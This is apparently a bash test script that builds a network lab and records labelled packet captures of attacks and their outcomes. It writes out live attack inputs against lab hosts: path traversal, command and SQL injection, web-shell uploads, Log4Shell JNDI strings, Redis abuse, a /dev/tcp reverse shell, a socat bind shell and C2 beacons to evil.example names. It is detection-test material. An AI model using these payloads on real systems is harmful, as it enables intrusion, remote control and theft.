#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# verdict.sh [NAME...]: pcaps/verdict/*.pcap, one exchange each: an attack and what came of it. What
# each one is was written into tests/verdict/LABELS.tsv before it was recorded.
. "$(dirname "$0")/lib.sh"
need curl:curl vsftpd:vsftpd redis-server:redis-server redis-cli:redis-tools nginx:nginx-light \
	dnsmasq:dnsmasq-base dig:bind9-dnsutils smbd:samba smbclient:smbclient mariadbd:mariadb-server \
	mariadb:mariadb-client telnetd:telnetd socat:socat openssl:openssl
DIR=${DIR:-$OUT/verdict}
mkdir -p "$DIR"
WANT=" $* "
lab attacker c2 app office share inner dns
A=${ADDR[app]} X=${ADDR[attacker]} C=${ADDR[c2]}
UA='Mozilla/5.0 (Windows NT 10.0; Win64; x64)'

# take NAME CMD...: one capture; tcpdump says that it listens a little before it does
take() {
	local name=$1; shift
	[ "$WANT" = "  " ] || [[ "$WANT" == *" $name "* ]] || return 0
	record "$DIR/$name.pcap" "${FILTER:-ip and not igmp}"
	sleep 0.4
	"$@" >/dev/null || true
	sleep "${REST:-0.2}"
	finish
}
web() { on attacker curl -s -m 6 -o /dev/null -A "$UA" "$@"; }
beacon() { on office curl -s -m 4 -o /dev/null -A "$UA" "$@"; }

# ---- servers ----
W=$TMP/weak
mkdir -p "$W/www" "$W/etc"
printf 'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nclerk:x:1000:1000::/home/clerk:/bin/bash\n' >"$W/etc/passwd"
printf '; for 16-bit app support\r\n[fonts]\r\n[extensions]\r\n' >"$W/www/win.ini"
serve app /usr/bin/python3 "$RECIPES/weak.py" app "$A" 8080 "$W"
serve c2 /usr/bin/python3 "$RECIPES/weak.py" out "$C" 80
N=$TMP/ngx
mkdir -p "$N/www"
printf 'APP_ENV=production\nDB_HOST=10.20.5.20\nDB_PASSWORD=Lab#2020\n' >"$N/www/.env"
printf '<!doctype html><html><head><title>政务服务网</title></head><body>首页</body></html>' >"$N/www/index.html"
printf '<!doctype html><html><head><title>拦截</title></head><body><h1>您的请求已被拦截</h1><p>事件编号 20261122-01</p></body></html>' >"$N/www/blocked.html"
cat >"$N/nginx.conf" <<-CONF
	user root; worker_processes 1; pid $N/pid; error_log $N/error.log;
	events { worker_connections 64; }
	http {
	  include /etc/nginx/mime.types; default_type text/plain; access_log off; root $N/www; server_tokens off;
	  client_body_temp_path $N; proxy_temp_path $N; fastcgi_temp_path $N; uwsgi_temp_path $N; scgi_temp_path $N;
	  server { listen 80; }
	  server { listen 81; location / { try_files \$uri /index.html; } }
	  server { listen 82; location / { return 302 http://\$host/sso/login?back=1; } }
	  server { listen 83; error_page 403 /blocked.html; location = /blocked.html { } location / { return 403; } }
	  server { listen 84; error_page 418 =200 /blocked.html; location = /blocked.html { } location / { return 418; } }
	}
CONF
serve app "$(PATH=$PATH:/usr/sbin command -v nginx)" -c "$N/nginx.conf" -g 'daemon off;' -e "$N/error.log"
D=$TMP/share
accounts "$D" dataxchg 'Share#2020'
printf '%s\n' listen=YES listen_ipv6=NO anonymous_enable=NO local_enable=YES background=NO seccomp_sandbox=NO \
	write_enable=YES "listen_address=${ADDR[share]}" pam_service_name=vsftpd >"$TMP/vsftpd.conf"
as_host share "$D" "$(PATH=$PATH:/usr/sbin command -v vsftpd)" "$TMP/vsftpd.conf"
sshd_on inner ops 'Inner#2020'
serve app redis-server --bind "$A" --port 6379 --protected-mode no --enable-protected-configs yes --save '' --dir "$TMP"
serve app redis-server --bind "$A" --port 6380 --requirepass lab-secret --save '' --dir "$TMP"
serve app socat "TCP-LISTEN:4001,bind=$A,fork,reuseaddr" "EXEC:/bin/sh,stderr"
serve c2 socat "TCP-LISTEN:4444,bind=$C,fork,reuseaddr" 'SYSTEM:cat >/dev/null'
certificate "$TMP/c2" update.example
serve c2 openssl s_server -accept "$C:443" -cert "$TMP/c2/cert.pem" -key "$TMP/c2/key.pem" -quiet -www
serve c2 openssl s_server -accept "$C:444" -cert "$TMP/c2/cert.pem" -key "$TMP/c2/key.pem" -quiet -tls1_3
serve dns dnsmasq -k -C /dev/null -u root --no-resolv --no-hosts --pid-file= \
	--listen-address="${ADDR[dns]}" --bind-interfaces --local=/example/ \
	--host-record=c2.evil.example,"$C" --host-record=held.evil.example,127.0.0.1
mkdir -p "$D/data" "$D/private" "$D/state"
chmod 777 "$D/data"
cat >"$D/smb.conf" <<-CONF
	[global]
	server role = standalone server
	private dir = $D/private
	lock directory = $D/state
	state directory = $D/state
	cache directory = $D/state
	pid directory = $D/state
	ncalrpc dir = $D/state/ncalrpc
	username map = $D/users
	log file = $D/log
	disable spoolss = yes
	load printers = no
	dns proxy = no
	[data]
	path = $D/data
	read only = no
	[locked]
	path = $D/data
	read only = yes
CONF
echo 'nobody = clerk' >"$D/users"
printf 'Share#2020\nShare#2020\n' | pdbedit -s "$D/smb.conf" -a -t -u nobody >/dev/null
serve share smbd -F --no-process-group -s "$D/smb.conf"
mkdir -p "$TMP/my"
chmod 777 "$TMP" "$TMP/my"
mariadb-install-db --user=mysql --datadir="$TMP/my" --auth-root-authentication-method=normal >/dev/null 2>&1 || true
serve inner mariadbd --user=mysql --datadir="$TMP/my" --bind-address="${ADDR[inner]}" --socket="$TMP/my/s" --skip-ssl --skip-name-resolve
port app "$A" 80
port app "$A" 8080
port share "${ADDR[share]}" 445
port inner "${ADDR[inner]}" 3306
mariadb -S "$TMP/my/s" -uroot -e "create user 'app'@'%' identified by 'App#2020'; create database shop; grant all on shop.* to 'app'@'%'; create table shop.item(id int)" || true

# ---- web ----
B=http://$A
take web-passwd web --path-as-is "$B:8080/read?file=../etc/passwd"
take web-passwd-gzip web --compressed --path-as-is "$B:8080/read?file=../www/../etc/passwd"
take web-missing web --path-as-is "$B/read?file=../../../etc/passwd"
take web-any-page web "$B:81/read?file=../../../etc/passwd"
take web-to-login web "$B:82/read?file=../../../etc/passwd"
take web-firewall-403 web "$B:83/read?file=../../../etc/passwd"
take web-firewall-200 web "$B:84/read?file=../../../etc/passwd"
take web-boom web "$B:8080/boom?file=../../../etc/passwd"
take web-command web "$B:8080/ping?host=127.0.0.1;id"
take web-listing web "$B:8080/ping?host=127.0.0.1;ls"
take web-command-filtered web "$B:8080/ping?host=127.0.0.1;cat%20/etc/hosts"
take sqli-error web "$B:8080/item?id=1%27%20or%20%22a"
take sqli-safe web "$B:8080/item?safe=1&id=1%27%20or%20%22a"
take env-given web "$B/.env"
take env-missing web "$B:8080/read?file=.env"
take env-any-page web "$B:81/admin/.env"
take put-stored web -X PUT --data-binary '<% out.println(1); %>' "$B:8080/open/x.jsp"
take put-refused web -X PUT --data-binary '<% out.println(1); %>' "$B:8080/closed/x.jsp"
take shell-used web --data 'cmd=id' "$B:8080/upload/help.jsp"
take shell-gone web --data 'cmd=id' "$B:8080/upload/gone.jsp"
serve attacker socat "TCP-LISTEN:1389,bind=$X,fork,reuseaddr" 'SYSTEM:sleep 0.2; echo 0'
sleep 0.3
J='${jndi:ldap://'
REST=1.5 take jndi-asked on attacker curl -s -m 8 -o /dev/null -A "${J}a.evil.example:1389/a}" "$B:8080/"
REST=1.5 take jndi-called-back on attacker curl -s -m 8 -o /dev/null -A "$J$X:1389/a}" "$B:8080/"
REST=1.5 take jndi-called-nobody on attacker curl -s -m 8 -o /dev/null -A "$J$X:1390/a}" "$B:8080/"
REST=1.5 take jndi-called-third on attacker curl -s -m 8 -o /dev/null -A "$J$C:4444/a}" "$B:8080/"
take jndi-patched on attacker curl -s -m 8 -o /dev/null -A "$J$X:1389/a}" -H 'Host: patched.example' "$B:8080/"
REST=1.5 take command-reverse web "$B:8080/ping?host=127.0.0.1;bash%20-i%20>%26%20/dev/tcp/$C/4444"

# ---- logins ----
F=ftp://${ADDR[share]}
take ftp-wrong on inner curl -s -o /dev/null --disable-epsv -u 'dataxchg:admin123' "$F/"
take ftp-right on inner curl -s -o /dev/null --disable-epsv -u 'dataxchg:Share#2020' "$F/"
take ssh-wrong login attacker ops wrong inner true
take ssh-right login attacker ops 'Inner#2020' inner true
smb() { on office smbclient "//${ADDR[share]}/$1" -U "CITY\\clerk%$2" -c "$3" >/dev/null 2>&1; }
printf 'laboratory\n' >"$TMP/psexesvc.exe"
cd "$TMP"
take smb-wrong smb data wrong 'put psexesvc.exe'
take smb-written smb data 'Share#2020' 'put psexesvc.exe'
take smb-locked smb locked 'Share#2020' 'put psexesvc.exe'
sql() { on app mariadb --skip-ssl -h "${ADDR[inner]}" -uapp "$@" >/dev/null 2>&1; }
take mysql-wrong sql -pwrong -e 'select 1'
take mysql-denied sql -p'App#2020' -e "select '<?php' into outfile '/var/www/html/x.php'"

# ---- services ----
take redis-open on attacker redis-cli -h "$A" -p 6379 config set dir /tmp
take redis-locked on attacker redis-cli -h "$A" -p 6380 config set dir /tmp
take port-closed on attacker bash -c "exec 3<>/dev/tcp/$A/6390" 2>/dev/null
ip -n "$TAG-attacker" neigh add 10.10.1.250 lladdr 02:57:0a:0a:01:fa dev eth0
REST=0.5 take port-nobody timeout 3 ip netns exec "$TAG-attacker" bash -c 'exec 3<>/dev/tcp/10.10.1.250/6390' 2>/dev/null
bind_shell() { on attacker bash -c "exec 3<>/dev/tcp/$A/4001; printf 'id\n' >&3; read -r -t 2 -u 3 line; exec 3>&-"; }
take bind-shell bind_shell
take tls-refused on attacker bash -c "openssl s_client -connect $C:444 -tls1_2 -servername update.example </dev/null >/dev/null 2>&1"

# ---- controllers ----
take c2-answered beacon "http://$C/submit.php?id=30411" --data x=1
take c2-gone beacon "http://$C/gone/submit.php?id=30411"
take c2-closed beacon "http://$C:8443/submit.php?id=30411"
take c2-tls on office bash -c "openssl s_client -connect $C:443 -servername update.example </dev/null >/dev/null 2>&1"
ask() { on office dig +tries=1 +time=2 "@${ADDR[dns]}" "$1" A; }
take c2-name-unknown ask gone.evil.example
take c2-name-held ask held.evil.example
resolve_and_call() { ask c2.evil.example; sleep 0.3; on office bash -c "exec 3<>/dev/tcp/$C/4444; printf 'hello\n' >&3; sleep 0.3"; }
take c2-name-called resolve_and_call
take c2-name-only ask c2.evil.example
take lure-whole beacon "http://$C/update.exe"
take lure-cut beacon "http://$C/cut/update.exe"
